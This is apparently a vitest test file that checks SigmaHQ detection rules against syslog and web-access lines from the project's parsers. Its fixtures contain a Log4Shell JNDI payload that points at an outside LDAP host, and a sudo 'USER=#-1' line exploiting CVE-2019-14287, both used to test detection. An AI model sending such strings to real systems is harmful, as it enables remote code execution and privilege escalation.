/**
 * Sigma rules on events as our parsers produce them (src/parsers): the logsource table and the
 * field mappings must fit real parser output, not hand-written events. SigmaHQ rules from
 * ../shared; skipped, saying why, when it is absent.
 */
import { existsSync } from 'node:fs';
import { resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createLineParser } from '../../src/parsers/index.js';
import { createSigmaEngine } from '../../src/detection/sigma/engine.js';
import { loadSigmaDirectory } from '../../src/detection/sigma/load-files.js';
import type { SigmaEngine } from '../../src/detection/sigma/engine.js';

const repoRoot = resolve(import.meta.dirname, '../..');
const SIGMA = resolve(repoRoot, '../shared/sigma/sigma');
const present = existsSync(SIGMA);
if (!present) console.warn(`Sigma-on-parser-output tests skipped: ${SIGMA} is absent`);

const NOW = Date.UTC(2026, 10, 27, 12, 0, 0);
let engine: SigmaEngine | undefined;
function titlesFor(format: string, line: string): string[] {
  engine ??= createSigmaEngine({
    rules: loadSigmaDirectory(SIGMA, { excludeDirs: ['deprecated', 'unsupported'] }).rules,
  });
  const ev = createLineParser(format).parse(line, { now: NOW, year: 2026 });
  return engine.process(ev as Record<string, unknown>, NOW).map((m) => m.title);
}

describe('SigmaHQ rules on parsed lines', () => {
  it.skipIf(!present)(
    'sshd rules fire on an sshd syslog line and not on another program (skipped when ../shared is absent)',
    () => {
      expect(
        titlesFor('syslog', 'Nov 27 09:00:00 web1 sshd[4242]: Corrupted MAC on input.'),
      ).toContain('Suspicious OpenSSH Daemon Error');
      expect(
        titlesFor('syslog', 'Nov 27 09:00:00 web1 kernel: Corrupted MAC on input.'),
      ).not.toContain('Suspicious OpenSSH Daemon Error');
      expect(
        titlesFor(
          'syslog',
          'Nov 27 09:00:00 web1 sshd[4242]: Accepted publickey for bob from 198.51.100.2 port 5022 ssh2',
        ),
      ).toEqual([]);
    },
  );

  it.skipIf(!present)(
    'the sudo rule reads USER from the parsed sudo line (skipped when ../shared is absent)',
    () => {
      const hit = titlesFor(
        'syslog',
        'Nov 27 09:00:01 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/usr/bin/id',
      );
      expect(hit.some((t) => /CVE-2019-14287/.test(t))).toBe(true);
      const miss = titlesFor(
        'syslog',
        'Nov 27 09:00:01 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id',
      );
      expect(miss.some((t) => /CVE-2019-14287/.test(t))).toBe(false);
    },
  );

  it.skipIf(!present)(
    'webserver rules fire on a parsed access-log line (skipped when ../shared is absent)',
    () => {
      const attack = titlesFor(
        'access',
        '203.0.113.9 - - [27/Nov/2026:09:00:00 +0000] "GET /?x=${jndi:ldap://198.51.100.9/a} HTTP/1.1" 200 512 "-" "curl/8.0"',
      );
      expect(attack.length).toBeGreaterThan(0);
      const benign = titlesFor(
        'access',
        '203.0.113.9 - - [27/Nov/2026:09:00:00 +0000] "GET /products/42?page=2 HTTP/1.1" 200 512 "https://shop.example/" "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"',
      );
      expect(benign).toEqual([]);
    },
  );
});
